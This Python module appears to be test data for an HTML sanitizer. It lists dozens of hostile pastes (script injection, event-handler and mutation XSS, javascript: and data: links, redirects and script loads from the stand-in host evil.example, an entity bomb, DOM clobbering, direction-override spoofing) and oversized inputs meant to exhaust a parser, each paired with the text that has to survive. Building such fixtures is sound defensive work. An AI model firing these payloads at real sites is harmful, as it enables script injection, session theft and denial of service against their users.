"""Hostile HTML that a clipboard or a form can bring, each with what has to be left of its words."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Paste:
    """A name, the HTML, and a word that a reader should still find; empty where nothing has to stay."""

    name: str
    html: str
    keeps: str = "正文"


def _events() -> str:
    events = "".join(
        f" on{name}=hacked()"
        for name in (
            "click",
            "load",
            "error",
            "focus",
            "mouseover",
            "animationstart",
            "toggle",
            "beforeinput",
        )
    )
    tags = (
        "p",
        "div",
        "span",
        "a",
        "img",
        "table",
        "td",
        "th",
        "li",
        "h2",
        "strong",
        "blockquote",
        "ol",
        "figure",
    )
    return "".join(f"<{tag}{events} autofocus tabindex=1 contenteditable>正文</{tag}>" for tag in tags)


PASTES = (
    Paste("script", "<p>正文<script>hacked()</script></p>"),
    Paste("script in upper case, unclosed", "<p>正文</p><SCRIPT SRC=//evil.example/x.js>"),
    Paste("script split by a null", "<p>正文<scr\0ipt>hacked()</scr\0ipt></p>"),
    Paste("script in every attribute", _events()),
    Paste("unquoted event behind a slash", "<img/src=x/onerror=hacked()><p>正文</p>"),
    Paste("svg with script", "<svg><script>hacked()</script></svg><p>正文</p>"),
    Paste("svg onload", "<svg/onload=hacked()><p>正文</p></svg>", ""),
    Paste(
        "svg animate of href",
        '<svg><a><animate attributeName=href values="javascript:hacked()"/><text>x</text></a></svg><p>正文</p>',
    ),
    Paste(
        "svg foreignObject",
        "<svg><foreignObject><body onload=hacked()><p>x</p></foreignObject></svg><p>正文</p>",
    ),
    Paste("svg use of data", '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg><p>正文</p>'),
    Paste(
        "mutation by math and mglyph",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;"></table></math><p>正文</p>',
        "",
    ),
    Paste(
        "mutation by svg and style",
        '<svg></p><style><a id="</style><img src=1 onerror=hacked()>"></svg><p>正文</p>',
        "",
    ),
    Paste(
        "mutation by noscript",
        '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript><p>正文</p>',
    ),
    Paste(
        "mutation by template",
        "<template><p title='</template><img src=x onerror=hacked()>'></p></template><p>正文</p>",
    ),
    Paste(
        "mutation by textarea",
        "<textarea><p title='</textarea><img src=x onerror=hacked()>'>x</textarea><p>正文</p>",
    ),
    Paste("mutation by xmp", "<xmp><p title='</xmp><img src=x onerror=hacked()>'></xmp><p>正文</p>"),
    Paste("mutation by comment", "<!--><img src=x onerror=hacked()>--><p>正文</p>"),
    Paste("mutation by comment end", "<!--a--!><img src=x onerror=hacked()>--><p>正文</p>"),
    Paste(
        "mutation by nested forms",
        "<form><div></form><form><svg><mtext></form><form><mglyph><style></math><img src onerror=hacked()></style></mglyph></svg></form><p>正文</p>",
        "",
    ),
    Paste(
        "mutation by annotation-xml",
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hacked()></style></annotation-xml></math><p>正文</p>',
    ),
    Paste(
        "mutation by select",
        "<select><style></select><script>hacked()</script></style></select><p>正文</p>",
        "",
    ),
    Paste("mutation by deep formatting", "<b>" * 60 + "<p>正文</p>" + "<table><td><b>" * 9),
    Paste("CDATA", "<svg><![CDATA[><img src=x onerror=hacked()>]]></svg><p>正文</p>"),
    Paste("processing instruction", "<?xml-stylesheet href='javascript:hacked()'?><p>正文</p>"),
    Paste("document type with entities", '<!DOCTYPE x [<!ENTITY a "hacked">]><p>正文&a;</p>'),
    Paste(
        "entity bomb", '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><p>正文&b;&b;</p>'
    ),
    Paste("base", "<base href=//evil.example/><p>正文</p><a href=/x>站内</a>"),
    Paste("meta refresh", "<meta http-equiv=refresh content='0;url=//evil.example'><p>正文</p>"),
    Paste("link to a sheet", "<link rel=stylesheet href=//evil.example/x.css><p>正文</p>"),
    Paste(
        "form with a button",
        "<form action=//evil.example><input name=p><button formaction=javascript:hacked()>x</button>正文</form>",
    ),
    Paste(
        "iframe", "<iframe src=javascript:hacked() srcdoc='<script>hacked()</script>'></iframe><p>正文</p>"
    ),
    Paste("object and embed", "<object data=x.swf><embed src=x.swf></object><p>正文</p>"),
    Paste(
        "video and audio",
        "<video poster=javascript:hacked() onerror=hacked()><source src=x></video><audio src=x></audio><p>正文</p>",
    ),
    Paste("frameset", "<p>正文</p><frameset onload=hacked()><frame src=javascript:hacked()></frameset>"),
    Paste(
        "dialog, details and popover",
        "<details open ontoggle=hacked()><summary popovertarget=x>正文</summary></details><div popover id=x onbeforetoggle=hacked()>x</div>",
    ),
    Paste("javascript in a link", "<a href=javascript:hacked()>正文</a>"),
    Paste("javascript in entities", "<a href='&#106;&#x61;vascript&colon;hacked()'>正文</a>"),
    Paste(
        "javascript with blanks in it",
        "<a href='java\tscript\n:hacked()'>正文</a><a href=' \x01javascript:hacked()'>x</a>",
    ),
    Paste("javascript in mixed case", "<a href='JaVaScRiPt:hacked()'>正文</a>"),
    Paste(
        "vbscript and data",
        "<a href='vbscript:hacked()'>正文</a><a href='data:text/html,<script>hacked()</script>'>x</a>",
    ),
    Paste(
        "view-source, blob, file",
        "<a href='view-source:x'>正文</a><a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
    ),
    Paste(
        "link elsewhere without a scheme",
        "<a href='//evil.example'>正文</a><a href='/\\evil.example'>x</a><a href='\\\\evil.example'>x</a>",
    ),
    Paste("link with a name and password", "<a href='https://www.gov.cn@evil.example/'>正文</a>"),
    Paste("link turned in its direction", "<a href='https://x.cn/\u202egpj.exe'>正文\u202etxt</a>"),
    Paste(
        "srcset, ping, xlink",
        "<img src=x srcset='//evil.example 1x'><a ping=//evil.example href=/x>正文</a><a xlink:href=javascript:hacked()>x</a>",
    ),
    Paste(
        "picture from outside",
        "<p>正文</p><img src=https://evil.example/track.gif width=1><img src='data:image/svg+xml,<svg onload=hacked()>'>",
    ),
    Paste(
        "picture that climbs",
        "<p>正文</p><img src='files/../../admin'><img src='files/1?x=1'><img src='files/01'><img src='/files/1'>",
    ),
    Paste(
        "background attributes",
        "<table background=javascript:hacked() dynsrc=x lowsrc=x><tr><td background=x>正文</table>",
    ),
    Paste(
        "style with expression",
        "<p style='width:expression(hacked());behavior:url(x.htc);-moz-binding:url(x)'>正文</p>",
    ),
    Paste(
        "style that covers the page",
        "<p style='position:fixed;inset:0;z-index:9'>正文</p><style>*{background:url(//evil.example)}</style>",
    ),
    Paste(
        "classes and names of ours",
        "<p class='btn go' id=content name=content data-editor=x slot=x is=x>正文</p>",
    ),
    Paste("names that clobber", "<a id=document name=cookie>正文</a><form id=forms></form><img name=body>"),
    Paste(
        "spans without end",
        "<table><tr><td colspan=1e9 rowspan=99999999999>正文</td></tr><tr><td colspan=-1 rowspan=0>x</td></tr></table>",
    ),
    Paste(
        "list numbers without end",
        "<ol start=99999999999999999999 type='a onclick=x' reversed><li value=9e9>正文</ol>",
    ),
    Paste("controls and unseen characters", "<p>正文\x00\x08\u200b\ufeff\u2066\x7f</p>"),
    Paste("half a surrogate by number", "<p>正文&#xD800;&#x110000;&#0;</p>"),
    Paste("attribute that ends its quote", "<img src=files/1 alt='\"><script>hacked()</script>'><p>正文</p>"),
    Paste("custom elements", "<x-evil onclick=hacked()>正文</x-evil><o:p onclick=x>x</o:p>"),
    Paste(
        "conditional comments",
        "<!--[if IE]><script>hacked()</script><![endif]--><![if !IE]><p>正文</p><![endif]>",
    ),
    Paste(
        "office parts",
        "<xml><w:binData w:name=x>AAAA</w:binData></xml><v:shape onload=hacked()><v:imagedata src=//evil.example/></v:shape><p>正文</p>",
    ),
    Paste(
        "struck out for readers only",
        "<p>正文<span style='display:none'>身份证110101199003078494</span><span hidden>隐藏</span></p>",
    ),
    Paste(
        "isindex, keygen and marquee",
        "<isindex action=javascript:hacked()><keygen onfocus=hacked()><marquee onstart=hacked()>正文</marquee>",
    ),
    Paste("ruby with annotations", "<ruby>正文<rp>(</rp><rt onclick=hacked()>zhengwen</rt></ruby>"),
    Paste("plaintext to the end", "<p>正文</p><plaintext><script>hacked()</script>"),
)

OVERLARGE = (
    ("10 MB of nested tags", "<div>" * 2_000_000),
    ("10 MB of words", "公" * 10_000_000),
    ("nested tables", "<table><tr><td>" * 1_000),
    ("nested lists", "<ul><li>" * 1_000),
    ("formatting that is opened again in each paragraph", "<b><i><u><s>" * 90 + "<p>甲</p>" * 9_000),
    ("half a million attributes", "<p " + " ".join(f"a{number}=1" for number in range(500_000)) + ">正文"),
    ("attributes behind quotes", "<p " + "".join(f"a{number}='>'" for number in range(300_000)) + ">正文"),
    ("half a million line ends of tags", "<" * 3_000_000),
    ("a table of a million places", "<table>" + "<tr><td colspan=999 rowspan=999>甲" * 1_000 + "</table>"),
    ("a quotation without end", "<a " * 190 + 'x="' + "z" * 5_000_000),
)
